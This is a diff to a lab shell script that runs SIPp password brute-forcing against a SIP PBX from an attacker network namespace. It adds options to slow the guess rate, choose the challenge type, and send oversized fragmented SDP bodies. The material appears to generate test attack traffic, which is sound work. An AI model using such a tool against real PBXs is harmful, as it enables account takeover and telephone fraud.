@@ -5,9 +5,13 @@
 #   LAB_ID=ID bruteforce.sh [--family 4|6] [--transport udp|tcp] [--src ADDR]
 #        [--user 100] [--count N] [--rate PER_S] [--method REGISTER|INVITE]
 #        [--target NUMBER] [--ua STRING] [--passwords FILE] [--port N]
+#        [--period MS] [--challenge 401|407] [--sdp BYTES]
 #        [--timeout S] [--background] [--tag NAME]
 # Defaults: IPv4, UDP, from the attacker's main address, user 100, 20 guesses at 5/s,
 # REGISTER, no User-Agent, sipp/passwords.txt, a system-chosen source port, 60 s.
+# --period: the rate is RATE guesses per PERIOD ms (default 1000; 5 per 4000 = 1.25/s).
+# --challenge: what an INVITE is challenged with (407; 401 for a PJSIP-style PBX).
+# --sdp: INVITEs carry an SDP body of about BYTES (larger than an MTU: IP fragments).
 # The count is capped by the number of passwords; the run ends by itself after
 # --timeout at the latest.
 set -euo pipefail
@@ -15,7 +19,7 @@ set -euo pipefail
 source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
 
 family=4 transport=udp src="" user=100 count=20 rate=5 method=REGISTER target=0044123456789
-ua="" passwords="$LAB_DIR/sipp/passwords.txt" port="" timeout=60 bg="" tag=""
+ua="" passwords="$LAB_DIR/sipp/passwords.txt" port="" timeout=60 bg="" tag="" period=1000 challenge="" sdp=0
 while [ $# -gt 0 ]; do
   case "$1" in
   -h | --help) show_help "$0"; exit 0 ;;
@@ -30,6 +34,9 @@ while [ $# -gt 0 ]; do
   --ua) ua="$2"; shift 2 ;;
   --passwords) passwords="$2"; shift 2 ;;
   --port) port="$2"; shift 2 ;;
+  --period) period="$2"; shift 2 ;;
+  --challenge) challenge="$2"; shift 2 ;;
+  --sdp) sdp="$2"; shift 2 ;;
   --timeout) timeout="$2"; shift 2 ;;
   --background) bg=1; shift ;;
   --tag) tag="$2"; shift 2 ;;
@@ -41,6 +48,9 @@ check_transport "$transport"
 check_int count "$count"
 check_int rate "$rate"
 check_int timeout "$timeout"
+check_int period "$period"
+check_int sdp "$sdp"
+((period >= 100 && period <= 600000)) || die "period must be 100-600000 ms"
 [ -z "$port" ] || check_int port "$port"
 [[ "$target" =~ ^[0-9A-Za-z]+$ ]] || die "bad target '$target'"
 ((rate >= 1 && timeout >= 1 && timeout <= 600)) || die "rate must be >= 1 and timeout 1-600 s"
@@ -55,7 +65,7 @@ check_atk_addr "$src"
 
 mkdir -p "$RUN/sipp"
 scenario="$RUN/sipp/$tag.xml"
-"$LAB_DIR/sipp/gen-bruteforce.sh" "$user" "$passwords" "$method" "$ua" >"$scenario"
+"$LAB_DIR/sipp/gen-bruteforce.sh" "$user" "$passwords" "$method" "$ua" "$challenge" "$sdp" >"$scenario"
 # sipp 3.6.1 silently runs nothing when a scenario exceeds ~64 KB (about 42 passwords
 # here): refuse loudly instead of "succeeding" without a single guess.
 size=$(stat -c %s "$scenario")
@@ -66,7 +76,7 @@ fi
 npw="$(grep -c '<label id="p' "$scenario")"
 ((count <= npw)) || count="$npw"
 args=(-sf "$scenario" -t "$(sipp_transport "$transport")" -i "$src"
-  -key target "$target" -r "$rate" -rp 1000 -l 10 -m "$count"
+  -key target "$target" -r "$rate" -rp "$period" -l 10 -m "$count"
   -timeout "${timeout}s" -recv_timeout 3000 -max_retrans 2 -nostdin)
 [ -z "$port" ] || args+=(-p "$port")
 spawn "$tag" "$NS_ATK" sipp "${args[@]}" "$(pbx_target "$family")"
